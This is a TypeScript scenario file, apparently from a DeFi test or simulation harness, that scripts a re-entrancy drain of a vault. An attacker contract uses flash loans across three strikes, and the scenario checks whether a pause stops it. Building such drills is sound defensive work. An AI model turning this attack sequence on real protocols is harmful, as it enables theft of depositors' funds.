import { readAmount, send } from '../send.ts'
import { type Attack, startAttack } from './attack.ts'

const strikes = 3
const exitsPerStrike = 4n

export const reentrancyDrain: Attack = {
  name: 'reentrancy-drain',
  title: 'Drain of the vault by re-entrancy',
  story:
    'The vault pays out before it burns the shares, so a contract that deposits a flash loan leaves four times with the same shares. Each of three strikes, seconds apart, takes about half of what the vault still holds; a pause after the first saves the rest.',

  async run(world) {
    const { client, protocol } = world
    const { dusd, vault, market } = protocol.contracts
    const from = protocol.accounts.thief
    const attack = startAttack(world)
    const attacker = await attack.create('ReentrantExit', from, [vault.address, market.address])

    for (let strike = 0; strike < strikes; strike++) {
      await attack.pause()
      const inVault = await readAmount(client, dusd, 'balanceOf', [vault.address])
      const inMarket = await readAmount(client, dusd, 'balanceOf', [market.address])
      const loan = inVault / 4n < inMarket ? inVault / 4n : inMarket
      const goesOn = await attack.step(send(client, attacker, 'strike', [loan, exitsPerStrike], { from }))
      if (!goesOn) break
    }
    return { transactions: attack.transactions }
  },
}
